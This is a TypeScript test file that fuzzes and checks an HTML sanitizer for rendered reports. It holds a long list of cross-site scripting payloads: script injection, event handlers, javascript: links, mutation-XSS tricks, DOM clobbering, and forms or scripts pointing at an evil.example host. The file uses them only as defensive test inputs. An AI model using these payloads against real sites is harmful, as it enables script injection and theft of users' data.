import fc from "fast-check";
import type { Element, Root } from "hast";
import { type DefaultTreeAdapterMap, defaultTreeAdapter, parseFragment as parseAsBrowser } from "parse5";
import { describe, expect, test } from "vitest";
import { placeCharts } from "@/lib/reports/document/html/chart-hosts";
import { MAX_DEPTH } from "@/lib/reports/document/html/parse";
import { plainText } from "@/lib/reports/document/html/tree";
import { depthOf, elementsOf, prepare, render } from "./html-support";

const TAGS = new Set(
  (
    "section article header footer div span p h2 h3 h4 h5 h6 hr br wbr ul ol li dl dt dd figure figcaption " +
    "blockquote q pre code kbd samp var details summary table caption colgroup col thead tbody tfoot tr th td " +
    "em strong b i u s small sub sup mark abbr cite dfn time del ins a img svg path"
  ).split(" "),
);

const PROPERTIES = new Set(
  (
    "className id title lang dir style dataLabel href rel ariaLabel ariaHidden src alt width height loading " +
    "decoding start reversed type value colSpan rowSpan headers scope span dateTime open tabIndex role " +
    "dataChart dataCaption"
  ).split(" "),
);

const SVG_PROPERTIES: Readonly<Record<string, readonly string[]>> = {
  svg: ["viewBox", "fill", "focusable"],
  path: ["d"],
};

/** Walks a tree and says what in it no report may have. */
function faults(tree: Root): string[] {
  const found = elementsOf(tree).flatMap((element) => [
    ...(TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...Object.entries(element.properties).flatMap(([name, value]) => propertyFaults(element, name, value)),
  ]);
  const types = new Set(JSON.stringify(tree).match(/(?<="type":")(?:comment|doctype|raw)(?=","value|"\})/g));
  return [...found, ...types];
}

function propertyFaults(element: Element, name: string, value: unknown): string[] {
  const place = `${element.tagName}[${name}=${value}]`;
  const svgProperties = SVG_PROPERTIES[element.tagName];
  if (svgProperties !== undefined) return svgProperties.includes(name) ? [] : [place];
  if (!PROPERTIES.has(name)) return [place];
  if (name === "href") return /^(?:https?:\/\/|mailto:|#)/.test(String(value)) ? [] : [place];
  if (name === "src")
    return /^data:image\/(?:png|jpeg|gif|webp|avif|svg\+xml)[;,]/i.test(String(value)) ? [] : [place];
  if (name === "role") return value === "region" ? [] : [place];
  if (name === "id") return /-|^[\p{Ll}\p{Lo}\p{M}\p{N}]+$/u.test(String(value)) ? [] : [place];
  if (name === "className") return String(value).includes("site-") ? [place] : [];
  return [];
}

const VECTORS: readonly (readonly [family: string, html: string])[] = [
  ["script", "<script>alert(1)</script>"],
  ["script in capitals, with a space in the end tag", "<ScRiPt >alert(1)</sCrIpT >"],
  ["script with a slash for a space", '<script/x src="https://evil.example/x.js"></script>'],
  ["script around a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script in a double bracket", "<<script>alert(1);//<</script>"],
  ["module script", '<script type="module">import("https://evil.example")</script>'],
  ["script of a data block", '<script type="application/json" id="__NEXT_DATA__">{"a":1}</script>'],
  ["script in svg", '<svg><script href="data:,alert(1)"/></svg>'],
  ["script in svg with an entity", "<svg><script>&#97;lert(1)</script></svg>"],
  ["image error", '<img src="x" onerror="alert(1)">'],
  ["image error without quotes or spaces", "<img/src=x/onerror=alert(1)>"],
  ["image error after a broken quote", '<img """><p onmouseover="alert(1)">x</p>"\\>'],
  ["image named like a tag", "<image src=x onerror=alert(1)>"],
  ["image from elsewhere", '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x">'],
  ["image with html data", '<img src="data:text/html,<script>alert(1)</script>">'],
  ["image that leaks through a style", '<p style="background:url(https://evil.example);bad">x</p>'],
  ["picture with sources", '<picture><source srcset="https://evil.example/a"><img src=x></picture>'],
  ["event handler on load", "<body onload=alert(1)>"],
  ["event handler on an svg", "<svg onload=alert(1)>"],
  ["event handler split over lines", '<div\nonpointerenter\n=\n"alert(1)"\n>x</div>'],
  ["event handler after a null", "<div o\0nclick=alert(1)>x</div>"],
  ["event handler with a form feed", "<div\fonclick=alert(1)>x</div>"],
  ["event handler of animation", '<p style="animation-name:x" onanimationstart="alert(1)">x</p>'],
  ["event handler of details", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["event handler of focus", '<a id="x" tabindex="1" autofocus onfocus="alert(1)">x</a>'],
  [
    "event handler with a prefix",
    '<p xlink:onclick="a" on:click="a" @click="a" v-on:click="a" ng-click="a">x</p>',
  ],
  ["event handler of a custom element", "<x-y onclick=alert(1) contenteditable>x</x-y>"],
  ["javascript link", '<a href="javascript:alert(1)">x</a>'],
  ["javascript link in mixed case", '<a href="jAvAsCrIpT:alert(1)">x</a>'],
  ["javascript link with entities", '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>'],
  ["javascript link with control characters", '<a href="\u0001\u0002 java\tscript\n:alert(1)">x</a>'],
  ["javascript link after a space of no width", '<a href="\uFEFFjavascript:alert(1)">x</a>'],
  ["javascript link for html", '<a href="javascript://x%0Aalert(1)">x</a>'],
  ["data link", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  [
    "vbscript and others",
    '<a href="vbscript:x">x</a><a href="blob:https://a/b">x</a><a href="file:///etc/passwd">x</a>',
  ],
  ["view-source", '<a href="view-source:https://evil.example">x</a>'],
  ["link in svg", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  [
    "link changed by animation",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
  ],
  [
    "link in math",
    '<math href="javascript:alert(1)">x</math><math><mi xlink:href="javascript:x">x</mi></math>',
  ],
  ["link with a base", '<base href="javascript:/a/"><a href="#alert(1)">x</a>'],
  [
    "link that opens the page",
    '<a href="https://evil.example" target="_top" rel="opener" download ping="https://evil.example">x</a>',
  ],
  ["area", '<map name="m"><area href="javascript:alert(1)"></map><img usemap="#m" src="x">'],
  [
    "form action",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  ],
  [
    "form elsewhere",
    '<button form="site-search" formaction="https://evil.example">x</button><input form="f" name="q">',
  ],
  [
    "password field",
    '<form action="https://evil.example"><input type=password name=p autocomplete=on></form>',
  ],
  ["frame", '<iframe src="javascript:alert(1)"></iframe>'],
  ["frame with a document", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["frame set", '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ["object and embed", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ["applet and parameter", '<applet code="x"><param name="url" value="javascript:alert(1)"></applet>'],
  [
    "video and audio",
    '<video poster="javascript:x" src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  ],
  ["marquee", "<marquee onstart=alert(1)>x</marquee>"],
  ["refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["policy", '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  [
    "style sheet",
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
  ],
  [
    "preload and prefetch",
    '<link rel="preload" as="script" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">',
  ],
  ["import and manifest", '<link rel="import" href="x"><html manifest="https://evil.example">'],
  ["legacy style", '<div style="width: expression(alert(1)); bad">x</div>'],
  ["legacy background", '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x'],
  [
    "clobbered globals",
    '<a id="__next_f"></a><img name="cookie" id="getElementById"><form id="document" name="body"></form>',
  ],
  ["clobbered collections", '<a id="config"></a><a id="config" name="url" href="clobbered:1"></a>'],
  ["class and id of the site", '<div id="site-header" class="site-header">x</div>'],
  [
    "cite and long description",
    '<blockquote cite="javascript:x">x</blockquote><img longdesc="javascript:x" src="x">',
  ],
  [
    "popover and inert",
    '<div popover="auto" inert hidden accesskey="x" contenteditable draggable="true">x</div>',
  ],
  ["command", '<button commandfor="x" command="show-modal" popovertarget="x">x</button>'],
  ["microdata", '<div itemscope itemtype="https://evil.example" itemprop="url">x</div>'],
  [
    "slots of a shadow root",
    '<div><template shadowrootmode="open"><script>alert(1)</script><slot></slot></template></div>',
  ],
  [
    "mutation: title in svg",
    "<svg></p><title><a id='</title><img src=x onerror=alert(1)>'></a></title></svg>",
  ],
  [
    "mutation: style in svg",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
  ],
  [
    "mutation: style in math",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></style>",
  ],
  [
    "mutation: form in form",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>",
  ],
  ["mutation: noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>'],
  ["mutation: comment in raw text", "<noembed><!-- </noembed><img src=x onerror=alert(1)> --></noembed>"],
  ["mutation: comment", "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>-->"],
  ["mutation: conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  [
    "mutation: CDATA",
    '<svg><![CDATA[><img src="]]><img src=x onerror=alert(1)>">]]></svg><![CDATA[<img src=x onerror=alert(1)>]]>',
  ],
  [
    "mutation: processing instruction",
    '<?xml-stylesheet href="javascript:alert(1)"?><?php echo "<img src=x onerror=alert(1)>"?>',
  ],
  ["mutation: select", "<select><style></select><img src=x onerror=alert(1)></style></select>"],
  [
    "mutation: textarea in a template",
    "<template><textarea><img title='</textarea><img src onerror=alert(1)>'></textarea></template>",
  ],
  ["mutation: xmp", '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>'],
  ["mutation: plaintext", "<plaintext><img src=x onerror=alert(1)>"],
  [
    "mutation: foreign object",
    '<svg><foreignObject><iframe onload="alert(1)"></iframe><div onclick=x>x</div></foreignObject></svg>',
  ],
  [
    "mutation: annotation",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="alert(1)"></style></annotation-xml></math>',
  ],
  ["mutation: desc", '<svg><desc><noscript><img title="</noscript><script>alert(1)</script>"></desc></svg>'],
  ["mutation: deep nesting", `${"<div>".repeat(600)}<math><style><img src=x onerror=alert(1)></style>`],
  [
    "mutation: table in a paragraph of math",
    "<p><math><table><tr><td><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  ],
  [
    "svg use",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>',
  ],
  [
    "svg set",
    '<svg><set attributeName="onmouseover" to="alert(1)"/><handler type="text/javascript">alert(1)</handler></svg>',
  ],
  ["attribute named like a tag", "<p <script>alert(1)</script>>x</p>"],
  ["attribute that ends early", "<a title='\"><img src=x onerror=alert(1)>' href='#\"><script>'>x</a>"],
  [
    "attribute that becomes a node",
    '<div type="element" value="<script>" children="x" tagname="script" content="y">x</div>',
  ],
  [
    "attributes of React",
    '<div dangerouslySetInnerHTML="{__html:1}" children="x" key="a" ref="b" is="x">x</div>',
  ],
  [
    "attributes of every object",
    '<div __proto__="x" constructor="x" hasOwnProperty="x" toString="x">x</div>',
  ],
  [
    "icon that draws",
    '<i class="fas fa-bolt" onclick="alert(1)" d="M0 0"></i><svg class="fas fa-bolt"><path d="x"></svg>',
  ],
  ["symbols that spell a tag", "<p>$\\lt script\\gt$alert(1)$\\text{<script>}$ &lt;script&gt;</p>"],
  ["chart that a report claims", '<div data-chart="0" data-caption="x" data-x="y">x</div>'],
];

describe("hostile HTML", () => {
  test.each(VECTORS)("%s", (_, vector) => {
    const { body } = placeCharts(prepare(`<p>before the attack</p>${vector}`), []);
    expect(faults(body)).toEqual([]);
    expect(plainText(body)).toMatch(/^before the attack/);
    const html = render(body);
    expect(html).not.toMatch(/<(?:script|style|iframe|object|embed|form|input|base|meta|link|math)/i);
    expect(fragmentFaults(html)).toEqual([]);
  });

  test.each(VECTORS)("the text after it stays: %s", (_, vector) => {
    // What a vector leaves open is closed, since a browser would read on in it, too.
    const html = `${vector}<!-- --></script></style><p>after the attack</p>`;
    expect(plainText(prepare(html).body)).toContain("after the attack");
  });

  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT\n>alert(1)</script\n>",
    "<style>p { color: red }</style>",
    "<svg><style>p { color: red }</style></svg>",
    "<script>alert(1)",
    "<style>p { color: red }",
    "<!-- a",
  ])("a program is not shown as text: %s", (html) => {
    expect(prepare(`a${html}`).body.children).toEqual([{ type: "text", value: "a" }]);
  });
});

type Node = DefaultTreeAdapterMap["node"];

/** What a browser would find in rendered HTML that no report may have. */
function fragmentFaults(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Node): void => {
    if ("tagName" in node) {
      if (!TAGS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (/^on|^(?:srcdoc|action|formaction|name|target|ping|nonce)$/.test(name)) found.push(name);
        if (/^\s*(?:javascript|vbscript):/i.test(value)) found.push(`${name}=${value}`);
      }
    }
    if ("childNodes" in node) node.childNodes.forEach(walk);
  };
  walk(parseAsBrowser(html));
  return found;
}

const FRAGMENT = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...pieces()) },
  { weight: 1, arbitrary: fc.constantFrom(...VECTORS.map(([, html]) => html)) },
  { weight: 2, arbitrary: fc.string({ maxLength: 8 }) },
);
const HTML = fc.array(FRAGMENT, { maxLength: 40 }).map((parts) => parts.join(""));

function pieces(): string[] {
  const tags =
    "section div p h1 h2 h4 ul li dl dt dd table caption thead tbody tr th td b i a strong span svg math form " +
    "select option button template details summary main canvas pre figure style title textarea center br img";
  return [
    ...tags
      .split(" ")
      .flatMap((tag) => [`<${tag}>`, `</${tag}>`, `<${tag} id="a" class="chart-container fas fa-bolt">`]),
    "text ",
    "$\\ge$ ",
    "$5 ",
    "<!--",
    "-->",
    "<",
    "&lt;",
    "&amp;",
    '"',
    "'",
    "Câu một dài hai mươi ký tự. Câu hai.",
  ];
}

describe("any HTML", () => {
  test("never throws, and leaves only what is allowed, no deeper than is safe", () => {
    fc.assert(
      fc.property(HTML, fc.array(fc.nat({ max: 30 }), { maxLength: 5 }), (html, hosts) => {
        const prepared = prepare(html);
        expect(faults(prepared.body)).toEqual([]);
        const chart = { kind: "gauge", value: 1, min: 0, max: 2, segments: [] } as const;
        const { body, charts } = placeCharts(
          prepared,
          hosts.map((host) => ({ host, chart })),
        );
        expect(faults(body)).toEqual([]);
        expect(depthOf(body)).toBeLessThan(MAX_DEPTH + 10);
        const numbers = elementsOf(body).flatMap(({ properties }) => properties.dataChart ?? []);
        expect(numbers.filter((number) => number !== "none")).toEqual(
          charts.map((_, index) => String(index)),
        );
        const ids = elementsOf(body).flatMap(({ properties }) => properties.id ?? []);
        expect(new Set(ids).size).toBe(ids.length);
      }),
      { numRuns: 200 },
    );
  });

  test("any string is text at worst", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (html) => {
        expect(faults(prepare(html).body)).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });

  test("sections are those of the body, in its order", () => {
    fc.assert(
      fc.property(HTML, (html) => {
        const { body, sections } = prepare(html);
        const ids = elementsOf(body).flatMap(({ properties }) => properties.id ?? []);
        expect(ids.filter((id) => sections.some((section) => section.id === id))).toEqual(
          sections.map(({ id }) => id),
        );
      }),
      { numRuns: 100 },
    );
  });

  test("the text of benign paragraphs survives, in order, whatever surrounds them", () => {
    const paragraph = fc.stringMatching(/^[a-zà-ỹ0-9 .,%]{1,30}$/).filter((text) => text.trim() !== "");
    const between = fc.constantFrom(
      "<b>",
      "</div>",
      "<div>",
      "<table>",
      "<!-- x -->",
      "<svg>",
      "</td>",
      "<form>",
      "<li>",
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(paragraph, between), { minLength: 1 }), (parts) => {
        const text = plainText(prepare(parts.map(([words, tag]) => `${tag}<p>${words}</p>`).join("")).body);
        for (const [words] of parts) expect(text).toContain(words.trim().replace(/\s+/g, " "));
      }),
      { numRuns: 200 },
    );
  });

  test("a browser reads what is rendered as the tree that it was rendered from", () => {
    fc.assert(
      fc.property(HTML, (html) => {
        const { body } = placeCharts(prepare(html), []);
        const context = defaultTreeAdapter.createElement("div", "http://www.w3.org/1999/xhtml" as never, []);
        const read = parseAsBrowser(context, render(body), {});
        expect(outlineOfFragment(read)).toBe(outlineOf(body));
      }),
      { numRuns: 200 },
    );
  });
});

function outlineOf(node: Root | Element): string {
  return node.children
    .map((child) => (child.type === "element" ? `<${child.tagName}${outlineOf(child)}>` : ""))
    .join("");
}

function outlineOfFragment(node: Node): string {
  if (!("childNodes" in node)) return "";
  return node.childNodes
    .map((child) => ("tagName" in child ? `<${child.tagName}${outlineOfFragment(child)}>` : ""))
    .join("");
}
